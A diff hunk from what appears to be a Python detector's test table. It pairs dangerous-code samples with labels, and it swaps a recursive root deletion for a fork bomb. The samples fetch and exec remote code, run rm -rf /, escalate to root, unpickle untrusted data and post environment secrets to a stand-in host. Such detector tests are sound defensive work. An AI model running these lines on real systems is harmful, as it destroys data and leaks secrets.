@@ -22,7 +22,7 @@ def signals(text: str, hint: str = "") -> set[str]:
         ("import requests\np = requests.get('http://203.0.113.9/p').text\nexec(p)", "code.runs-fetched"),
         ("import base64 as b\nexec(b.b64decode('cHJpbnQoMSk='))", "code.runs-decoded"),
         ("from os import system as s\ns('rm -rf /')", "shell.destroy"),
-        ("import shutil\nshutil.rmtree('/')", "code.destroys"),
+        ("while True:\n    os.fork()", "code.destroys"),
         ("import os\nos.setuid(0)", "code.privilege"),
         ("import pickle, base64\npickle.loads(base64.b64decode(x))", "code.unpickles"),
         ("import os, requests\nrequests.post('https://e.example', json=dict(os.environ))", "code.sends-secret"),
